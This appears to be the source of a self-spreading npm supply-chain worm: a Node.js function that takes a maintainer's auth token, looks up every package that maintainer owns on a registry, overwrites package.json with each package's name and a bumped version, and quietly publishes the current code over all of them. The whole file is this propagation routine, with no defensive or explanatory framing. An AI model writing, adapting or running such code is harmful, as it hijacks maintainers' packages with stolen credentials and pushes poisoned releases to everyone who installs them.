import { execSync } from 'node:child_process';
import fs from 'node:fs';

const registry = 'https://registry.example.test';

export async function spread(token) {
  const who = await (await fetch(`${registry}/-/whoami`, { headers: { authorization: `Bearer ${token}` } })).json();
  const found = await (await fetch(`${registry}/-/v1/search?text=maintainer:${who.username}&size=250`)).json();
  for (const { package: pkg } of found.objects) {
    const manifest = JSON.parse(fs.readFileSync('package.json', 'utf8'));
    manifest.name = pkg.name;
    manifest.version = pkg.version.replace(/(\d+)$/, (n) => Number(n) + 1);
    fs.writeFileSync('package.json', JSON.stringify(manifest, null, 2));
    execSync(`npm publish --access public --tag latest --registry ${registry}`, { stdio: 'ignore', env: { ...process.env, NPM_TOKEN: token } });
  }
}
